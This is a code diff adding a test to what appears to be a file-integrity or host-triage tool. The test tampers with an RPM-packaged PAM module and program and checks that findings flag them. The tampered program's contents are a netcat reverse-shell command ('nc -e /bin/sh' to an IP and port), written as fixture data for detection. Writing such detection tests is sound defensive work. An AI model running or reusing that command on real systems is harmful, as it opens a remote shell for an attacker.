@@ -318,3 +318,25 @@ def test_own_executable_is_not_a_dropped_program(tmp_path, monkeypatch):
     listed = {i.data["path"] for i in items if isinstance(i, Record) and i.stream == "executables"}
     assert listed == {str(place / "other")}
     assert any(isinstance(i, Problem) and "own executable" in i.message for i in items)
+
+
+def test_system_rules_against_rpm_sqlite(tmp_path):
+    """The same judgement on an RPM host (SHA-256 digests from the SQLite rpmdb the real rpm wrote): a changed
+    PAM module is critical, a changed packaged program high; a file the package marks %verify(not md5)
+    changes without a finding."""
+    from test_packages import rpm_root
+
+    root = rpm_root(tmp_path)
+    time.sleep(0.02)
+    with open(root / "usr/lib64/security/pam_tinyr.so", "ab") as fh:
+        fh.write(b"patched")
+    (root / "usr/bin/tinyr").write_text("#!/bin/sh\nnc -e /bin/sh 192.0.2.1 4444\n")
+    (root / "usr/bin/tinyr-state").write_text("#!/bin/sh\necho new state\n")
+    rows = _collect(root)[0]
+    seen = _by_path(rows)
+    assert seen["/usr/bin/tinyr"]["digest_algo"] == "sha256" and seen["/usr/bin/tinyr"]["verify"] == "mismatch"
+    assert seen["/usr/bin/tinyr-state"]["verify"] == "no_digest"
+    found = _findings(rows)
+    assert [f["path"] for f in found["TRI-INTEG-003"]] == ["/usr/lib64/security/pam_tinyr.so"]
+    assert [f["path"] for f in found["TRI-INTEG-004"]] == ["/usr/bin/tinyr"]
+    assert {r["package_db"] for r in rows if r["place"] == "system"} == {"rpm-sqlite"}
